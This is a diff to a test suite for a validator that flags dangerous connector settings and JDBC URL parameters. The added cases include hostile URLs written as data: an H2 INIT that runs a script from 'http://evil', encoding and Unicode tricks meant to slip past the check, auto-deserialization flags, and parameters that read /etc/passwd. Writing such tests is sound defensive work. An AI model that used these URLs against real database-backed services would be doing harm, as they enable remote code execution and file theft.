@@ -33,6 +33,7 @@ EVERYWHERE = (
     ("plugin.library.paths", "x.so", "loads native code"),
     ("ssl.engine.location", "x.so", "loads native code"),
     ("ssl.providers", "x", "loads native code"),
+    ("internal.termination.signal", "9", "may end the process"),
     ("offset.store.path", "/var/x", "writes files"),
     ("offset.store.method", "file", "writes files"),
     ("sasl.jaas.config", JNDI, "load code from elsewhere"),
@@ -68,6 +69,20 @@ JDBC = (
     ("jdbc:sqlserver://h;trustManagerClass=a.B;x=y", "trustmanagerclass"),
     ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "init"),
     ("JDBC:h2:mem:x;iNiT=x", "init"),
+    ("jdbc:h2:mem:x;I\\NIT=RUNSCRIPT FROM 'http://evil/x.sql'", "init"),
+    ("jdbc:h2:mem:x;\u0131N\u0130T=x", "init"),
+    ("\x01jdbc:h2:mem:x;INIT=x", "init"),
+    ("jdbc:mysql://h/d?autoDe%C5%BFerialize=true", "autodeserialize"),
+    ("jdbc:mysql://h/d?auto%2544eserialize=true", "autodeserialize"),
+    ("jdbc:mysql://h/d?idTokenFile=/etc/passwd", "idtokenfile"),
+    ("jdbc:snowflake://h/?token_file_path=/etc/passwd", "token_file_path"),
+    ("jdbc:mysql://h/d?logger=a.B", "logger"),
+    ("jdbc:mysql:loadbalance://h/d?ha.loadBalanceStrategy=a.B", "loadbalancestrategy"),
+    ("jdbc:mysql://h/d?defaultAuthenticationPlugin=a.B", "defaultauthenticationplugin"),
+    ("jdbc:postgresql://h/d?xmlFactoryFactory=a.B", "xmlfactoryfactory"),
+    ("jdbc:redshift://h/d;plugin_name=a.B", "plugin_name"),
+    ("jdbc:avatica:remote:url=http://h;httpclient_impl=a.B", "httpclient_impl"),
+    ("jdbc:sqlite:/x.db?enable_load_extension=true", "enable_load_extension"),
     ("jdbc:db2://h:1/d:clientRerouteServerListJNDIName=ldap://x;", "clientrerouteserverlistjndiname"),
 )
 
@@ -126,7 +141,7 @@ def test_what_a_shell_would_heed_in_the_command_line_of_kinit(name: str, value: 
         assert unfit(name, fine) is None
 
 
-@pytest.mark.parametrize("name", ["  reporter.producer.plugin.library.paths ", "Reporter.Producer.PLUGIN.library.paths"])
+@pytest.mark.parametrize("name", ["  reporter.producer.plugin.library.paths ", "Reporter.Producer.PLUGIN.l\u0131brary.paths"])
 def test_a_name_in_another_spelling(name: str) -> None:
     assert [danger.part for danger in dangers(name, "x.so")] == ["plugin.library.paths"]
 
@@ -135,6 +150,27 @@ def test_a_name_in_another_spelling(name: str) -> None:
 def test_dangerous_parameters_of_a_jdbc_url(url: str, part: str) -> None:
     assert part in [danger.part for danger in dangers("connection.url", url)]
     assert part in [danger.part for danger in dangers("any.other.setting", f" {url}")]
+
+
+@pytest.mark.parametrize("url", ["jdbc:sqlite::resource:http://evil/x.db", "jdbc:ignite:cfg://http://evil/x.xml"])
+def test_a_jdbc_url_that_names_what_is_loaded(url: str) -> None:
+    [danger] = dangers("connection.url", url)
+    assert "load what is at an address" in danger.reason
+    assert list(dangers("connection.url", url, ["connection.url"])) == []
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "jdbc:mysql://h/d?socketFactory=com.mysql.cj.protocol.StandardSocketFactory&logger=Slf4JLogger&ha.loadBalanceStrategy=random",
+        "jdbc:redshift:iam://c:eu-1/d?plugin_name=com.amazon.redshift.plugin.OktaCredentialsProvider",
+        "jdbc:postgresql://h/d?sslmode=verify-full&sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory",
+        "jdbc:sqlserver://h:1433;databaseName=d;encrypt=true;trustServerCertificate=true",
+        "jdbc:oracle:thin:@//h:1521/PDB1",
+    ],
+)
+def test_ordinary_jdbc_urls(url: str) -> None:
+    assert list(dangers("connection.url", url)) == []
 
 
 @pytest.mark.parametrize("prefix", ["driver.", "database.", "connection.", "driver.x."])
